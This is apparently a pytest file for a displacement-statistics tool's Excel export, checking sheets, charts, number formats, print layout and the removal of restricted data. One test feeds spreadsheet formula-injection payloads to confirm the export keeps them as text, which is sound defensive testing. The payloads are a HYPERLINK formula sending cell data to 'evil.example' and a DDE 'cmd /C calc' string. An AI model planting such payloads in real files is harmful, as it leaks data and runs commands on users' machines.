"""The Excel export, re-opened with openpyxl (and LibreOffice when it is installed)."""

import subprocess
import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import load_workbook

from dispstats.model.columns import FIGURE_COLUMNS
from dispstats.model.records import Site
from dispstats.reports.excel import export_xlsx
from dispstats.store.data_entry import add_figure
from dispstats.store.public import PublicView

from .conftest import RESTRICTED_MARKS, TODAY, require_tool

W38_END = date(2018, 9, 23)
SHEETS = [
    "Readme",
    "Summary",
    "Totals",
    "Charts",
    "Figures",
    "Weekly series",
    "Breakdowns",
    "Movements",
    "Sources",
    "History",
]


@pytest.fixture
def workbook_path(demo_sqlite, tmp_path) -> Path:
    return export_xlsx(demo_sqlite, tmp_path / "demo.xlsx", date_to=W38_END).path


def all_cells(path: Path):
    book = load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    yield sheet.title, cell


def test_the_workbook_has_its_sheets_and_explains_itself(workbook_path):
    book = load_workbook(workbook_path)
    assert book.sheetnames == SHEETS
    readme = {row[0]: row[1] for row in book["Readme"].iter_rows(values_only=True) if row[0]}
    assert readme["As of"] == datetime(2018, 9, 23)
    assert "recommended wins" in readme["Best-estimate rule"]
    assert "Excerpt  #description+excerpt" in readme
    assert book.properties.title == "dispstats export as of 2018-09-23"
    assert book.properties.creator.startswith("dispstats")


def test_totals_list_each_area_then_the_sites_it_adds_up_with_their_figures(workbook_path):
    rows = list(load_workbook(workbook_path)["Totals"].iter_rows(values_only=True))
    assert rows[1][:5] == (
        "#loc+name+parent", "#loc+code+parent", "#meta+group+code", "#meta+unit", "#meta+row"
    )  # fmt: skip
    zone = [r for r in rows[2:] if r[1] == "syr-55km-zone"]
    assert [(r[2], r[3], r[4], r[5], r[7], r[8], r[12]) for r in zone] == [
        ("idps", "people", "Total", None, 45_000, 45_000, "1 of 1"),
        ("idps", "people", "Site", "Rukban", 45_000, 45_000, None),
    ]
    assert zone[1][9] == "its best estimate" and zone[1][10] == datetime(2018, 9, 21)
    homs = [r for r in rows[2:] if r[1] == "SY04"]
    assert homs[0][:5] == ("Homs", "SY04", "idps", "people", "Total") and homs[0][7] == 45_000
    assert homs[1][5:10] == (
        "55-km At Tanf deconfliction zone", "syr-55km-zone", 45_000, 45_000,
        "the total of its sites",
    )  # fmt: skip


def test_figures_have_a_header_an_hxl_row_and_typed_values(workbook_path):
    sheet = load_workbook(workbook_path)["Figures"]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][: len(FIGURE_COLUMNS)] == tuple(c.header for c in FIGURE_COLUMNS)
    assert rows[1][:4] == ("#meta+id", "#meta+version", "#loc+code", "#indicator+code")
    header = rows[0]
    ocha = next(r for r in rows[2:] if r[header.index("Source id")] == "ocha-2018-09")
    assert ocha[header.index("Value (low)")] == 45000  # a number, not text
    assert ocha[header.index("Reference start")] == datetime(2018, 9, 16)  # a real date
    assert ocha[header.index("Publisher")] == "OCHA"
    assert ocha[header.index("Value as reported")] == "approximately 45,000"
    assert sheet.freeze_panes == "A3"
    assert sheet.auto_filter.ref == f"A2:{sheet.cell(1, len(header)).column_letter}9"


def test_the_summary_gives_the_best_estimate_and_the_weekly_series_its_source(workbook_path):
    book = load_workbook(workbook_path)
    summary = list(book["Summary"].iter_rows(values_only=True))
    assert summary[1][:8] == (
        "rukban", "Rukban", "idps", "people", 45000, 45000, "exact", "Demo data (illustrative)"
    )  # fmt: skip
    weekly = [r for r in book["Weekly series"].iter_rows(values_only=True)][2:]
    assert len(weekly) == 26
    assert weekly[-1][2:8] == ("idps", "people", "2018-W38", datetime(2018, 9, 23), 45000, 45000)
    assert weekly[-1][9] == "Demo data (illustrative)" and weekly[-2][9] == "OCHA"
    parts = list(book["Breakdowns"].iter_rows(values_only=True))
    header = parts[0]
    female = next(r for r in parts[2:] if r[header.index("Part")] == "female")
    assert (female[header.index("Value")], female[header.index("Share (%)")]) == (23_400, 52.0)
    movements = list(book["Movements"].iter_rows(values_only=True))
    assert len(movements) == 4 and movements[1][0] == "#meta+id"


A = {"a": "http://schemas.openxmlformats.org/drawingml/2006/main"}


def test_the_summary_has_native_charts_drawn_from_the_workbook_data(workbook_path):
    with zipfile.ZipFile(workbook_path) as archive:
        charts = sorted(n for n in archive.namelist() if n.startswith("xl/charts/chart"))
        xml = [archive.read(n).decode() for n in charts]
    assert len(charts) == 2
    from lxml import etree

    ns = {"c": "http://schemas.openxmlformats.org/drawingml/2006/chart"}
    line, bars = (etree.fromstring(x.encode()) for x in xml)
    # Steps drawn with straight lines between dated points (a scatter chart): a site's current
    # and stale stretches are two series, the stale one dashed.
    assert line.find(".//c:scatterChart", ns) is not None
    refs = [f.text for f in line.iterfind(".//c:yVal//c:f", ns)]
    assert refs and all(r.startswith("Charts!$B$") or r.startswith("Charts!$C$") for r in refs)
    assert len(list(line.iterfind(".//c:ser", ns))) == 2
    assert all(s.get("val") == "0" for s in line.iterfind(".//c:ser/c:smooth", ns))
    dashes = [d.get("val") for d in line.iterfind(".//c:ser/c:spPr/a:ln/a:prstDash", ns | A)]
    assert dashes == ["dash"]
    axes = {a.find("c:axPos", ns).get("val"): a for a in line.iterfind(".//c:valAx", ns)}
    assert axes["l"].find("c:scaling/c:min", ns).get("val") == "0"  # people from zero
    assert bars.find(".//c:barChart", ns) is not None
    assert bars.find(".//c:cat//c:f", ns).text.startswith("Charts!$A$")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
        "+1+2",
        "-3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|' /C calc'!A0",
    ],
)
def test_text_never_becomes_a_formula(demo_sqlite, tmp_path, text):
    demo_sqlite.add_site(Site("evil", text, kind="camp"))
    add_figure(
        demo_sqlite,
        {
            "site": "evil",
            "indicator": "population",
            "value": "10",
            "date": "2018-09-20",
            "source": "un-2018-01",
            "excerpt": text,
            "note": text,
            "description": text,
        },
        today=TODAY,
    )
    path = export_xlsx(demo_sqlite, tmp_path / "evil.xlsx", date_to=W38_END).path
    cells = [cell for _, cell in all_cells(path) if isinstance(cell.value, str)]
    found = [c for c in cells if c.value == text.replace("\r", "\n") or c.value == text]
    assert len(found) >= 4
    assert all(c.data_type == "s" for c in cells)
    with zipfile.ZipFile(path) as archive:
        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"<f>" in xml or b"<f " in xml for xml in sheets)


def test_public_exports_hold_no_restricted_name_number_or_excerpt(with_restricted, tmp_path):
    public = export_xlsx(PublicView(with_restricted), tmp_path / "p.xlsx", date_to=W38_END).path
    texts = [str(cell.value) for _, cell in all_cells(public)]
    with zipfile.ZipFile(public) as archive:
        raw = b" ".join(archive.read(n) for n in archive.namelist()).decode("utf-8", "replace")
    for secret in RESTRICTED_MARKS:
        assert not any(secret in t for t in texts), secret
        assert secret not in raw, secret
    assert any("Public version" in t for t in texts)
    internal = export_xlsx(with_restricted, tmp_path / "i.xlsx", date_to=W38_END).path
    first_sheet = load_workbook(internal)["Readme"]
    assert any("RESTRICTED" in str(c.value) for row in first_sheet.iter_rows() for c in row)


def test_export_on_the_command_line(run, tmp_path, monkeypatch):
    out = tmp_path / "cli.xlsx"
    result = run("export", "xlsx", "--to", "2018-09-23", "-o", str(out))
    assert result.exit_code == 0, result.output
    assert "Figures 7" in result.output and "Breakdowns 6" in result.output and out.exists()
    csv_out = tmp_path / "figures.csv"
    assert run("export", "hxl", "--provenance", "-o", str(csv_out)).exit_code == 0
    lines = csv_out.read_text().splitlines()
    assert lines[1].startswith("#meta+id,#meta+version,#meta+revision") and len(lines) == 9
    assert "#loc+code,#loc+name" in lines[1]
    bad = run("export", "xlsx", "-o", str(tmp_path / "missing" / "x.xlsx"))
    assert bad.exit_code == 1 and "does not exist" in bad.output


def test_libreoffice_opens_the_workbook_and_draws_its_charts(workbook_path, tmp_path):
    soffice = require_tool("soffice", "libreoffice-calc")
    pdftotext = require_tool("pdftotext", "poppler-utils")
    done = subprocess.run(
        [
            soffice,
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(workbook_path),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    pdf = tmp_path / "demo.pdf"
    assert done.returncode == 0 and pdf.exists(), done.stderr
    text = subprocess.run([pdftotext, str(pdf), "-"], capture_output=True, text=True).stdout
    assert "Population: best estimate (dashed: stale)" in text
    assert "Movements by route and month: best estimate of each" in text
    assert "approximately 45,000" in text


def test_history_holds_every_version_of_revised_figures_only(demo_sqlite, tmp_path):
    from dispstats.model.parse import Quantity

    demo_sqlite.correct(4, "OCHA revised", quantity=Quantity(42000, 42000, "about"))
    demo_sqlite.retract(6, "duplicate report")
    path = export_xlsx(demo_sqlite, tmp_path / "h.xlsx", date_to=W38_END).path
    rows = list(load_workbook(path)["History"].iter_rows(values_only=True))
    header = rows[0]
    kept = [(r[0], r[1], r[header.index("Revision")], r[header.index("Reason")]) for r in rows[2:]]
    assert kept == [
        (4, 1, "original", None),
        (6, 1, "original", None),
        (4, 2, "correction", "OCHA revised"),
        (6, 2, "retraction", "duplicate report"),
    ]


def test_readme_rows_are_tall_enough_for_their_text_and_labels_fit(workbook_path):
    sheet = load_workbook(workbook_path)["Readme"]
    width = sheet.column_dimensions["A"].width
    for row in sheet.iter_rows():
        label, text = row[0].value, row[1].value if len(row) > 1 else None
        if isinstance(label, str) and "#" in label:
            assert len(label) <= width, label  # "header  #hashtag" on one line
        if isinstance(text, str) and len(text) > 150:
            height = sheet.row_dimensions[row[0].row].height
            assert height and height >= 30, (row[0].row, text[:40])


def test_the_summary_change_is_the_one_the_brief_states(workbook_path, demo_sqlite):
    from dispstats.reports.brief import gather

    sheet = load_workbook(workbook_path)["Summary"]
    header = [c.value for c in sheet[1]]
    row = dict(zip(header, [c.value for c in sheet[2]], strict=True))
    assert (row["Previous estimate (low)"], row["Best estimate (low)"]) == (45000, 45000)
    assert (row["Change (low end)"], row["Change (high end)"]) == (0, 0)
    assert row["Change comes from"] == "another publisher's figure"
    brief = gather(demo_sqlite, W38_END)
    assert any(
        "Demo data (illustrative) reports 45,000 IDPs at Rukban (21 Sep 2018); the previous "
        "estimate was about 45,000 (OCHA" in t
        for t, _ in brief.highlights
    )


def test_numbers_have_separators_and_reference_dates_are_dates_shown_to_their_precision(
    workbook_path,
):
    book = load_workbook(workbook_path)
    figures = book["Figures"]
    header = [c.value for c in figures[1]]
    rows = {r[0].value: r for r in figures.iter_rows(min_row=3)}
    unhcr = rows[1]  # "about 85,000", October 2016
    assert unhcr[header.index("Value (low)")].number_format == "#,##0"
    reference = unhcr[header.index("Reference date")]
    assert reference.value == datetime(2016, 10, 1) and reference.number_format == "mmm yyyy"
    assert rows[4][header.index("Reference date")].number_format == "yyyy-mm-dd"  # a day
    assert unhcr[header.index("Entered at")].number_format == "yyyy-mm-dd hh:mm"
    readme = {r[0].value: r[1] for r in book["Readme"].iter_rows() if r[0].value}
    assert readme["Generated"].number_format == "yyyy-mm-dd hh:mm"
    assert readme["Summary"].value.startswith("1 row. ")
    for name, column in (("Weekly series", 7), ("Movements", 8)):
        cells = [r[column - 1] for r in book[name].iter_rows(min_row=3) if r[column - 1].value]
        assert cells and all(c.number_format == "#,##0" for c in cells), name
    summary = book["Summary"]
    assert summary["I2"].number_format == "yyyy-mm-dd" and summary["J2"].value == "day"


def test_columns_fit_their_content_and_publisher_types_are_words(workbook_path):
    sources = load_workbook(workbook_path)["Sources"]
    header = [c.value for c in sources[1]]
    types = [
        r[header.index("Publisher type")] for r in sources.iter_rows(min_row=3, values_only=True)
    ]
    assert "party to the conflict" in types and "party_to_conflict" not in types
    for column, longest in (("A", "hammurabi-2018-09-17"), ("B", "Hammurabi's Justice")):
        assert sources.column_dimensions[column].width >= len(longest)


def test_sheets_print_at_full_size_with_their_headers_on_every_page(workbook_path):
    book = load_workbook(workbook_path)
    for name in ("Figures", "Weekly series", "Movements", "Sources", "History"):
        sheet = book[name]
        assert sheet.print_title_rows.replace("$", "") == "1:2", name
        assert sheet.page_setup.orientation == "landscape"
        assert not sheet.sheet_properties.pageSetUpPr or not (
            sheet.sheet_properties.pageSetUpPr.fitToPage
        ), name  # never shrunk to one page width
    assert book["Summary"].print_title_rows.replace("$", "") == "1:1"


def test_rows_of_wrapped_text_are_tall_enough_for_it(workbook_path):
    sources = load_workbook(workbook_path)["Sources"]
    header = [c.value for c in sources[1]]
    title = header.index("Title")
    for row in sources.iter_rows(min_row=3):
        text = row[title].value or ""
        if len(text) > 120:  # three lines at the column's width
            assert (sources.row_dimensions[row[0].row].height or 0) >= 45, text[:40]
        assert row[title].alignment.wrap_text and row[title].alignment.vertical == "top"
